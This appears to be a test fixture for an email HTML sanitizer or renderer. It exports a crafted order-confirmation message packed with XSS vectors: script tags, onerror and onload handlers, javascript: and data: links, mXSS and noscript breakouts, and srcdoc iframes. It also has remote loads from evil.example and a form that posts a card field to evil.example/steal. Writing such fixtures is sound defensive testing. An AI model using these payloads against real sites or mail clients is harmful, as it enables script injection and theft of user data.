// A crafted message: everything that could run script, load from the network or break out of the report.

export const HOSTILE_BODY = `<!DOCTYPE html>
<html><head>
<title>Your order <script>alert('title')</script></title>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>@import url(https://evil.example/i.css); body { background: url('https://evil.example/bg.png'); }
p { color: red } <\/*x*/style><img src=x onerror=alert('style')></style>
<script>alert('head')</script>
</head>
<body onload="alert('body')">
<p data-gl-mark="99" data-gl-kind="core" data-gl-label="99 forged" data-gl-nonce="guess">Thanks for your order #1234. Your payment was received and your order has shipped.</p>
<p>Order number: 1234 <img src="https://evil.example/pixel.gif" onerror="alert('img')" width="1" height="1"></p>
<p>Text with a closing tag: &lt;/iframe&gt;&lt;script&gt;alert('escaped')&lt;/script&gt; and raw </iframe><script>alert('raw')</script> text.</p>
<p onclick="alert('click')" style="background-image:url(https://evil.example/a.png);width:expression(alert(1))">Get 50% off your next order with code SAVE50 - shop now!</p>
<a href="javascript:alert('js')">Track your package</a>
<a href=" JaVaScRiPt:alert('js2')">Invoice</a>
<a href="data:text/html,<script>alert('data')</script>">Receipt</a>
<img src="data:image/svg+xml,<svg onload=alert('svg')>" alt="promo banner">
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<form action="https://evil.example/steal"><input name="card"><button formaction="https://evil.example/b">Pay</button></form>
<svg onload="alert('svg2')"><image href="https://evil.example/s.png"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></p></noscript>
<template><script>alert('template')</script></template>
<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>
<table background="https://evil.example/t.png"><tr><td>Shipping to 456 Sample Avenue</td></tr></table>
<div style="position:fixed;top:0;left:0">Unsubscribe from marketing emails - Acme Inc., 1 Example St, Springfield, IL 62701</div>
</body></html>
`;

export const HOSTILE_EML = [
  'From: "<img src=x onerror=alert(\'from\')> Shop" <orders@shop.example.com>',
  'To: someone@example.net',
  "Subject: <script>alert('subject')</script> Your order",
  'MIME-Version: 1.0',
  'Content-Type: text/html; charset="utf-8"',
  '',
  HOSTILE_BODY,
].join('\r\n');
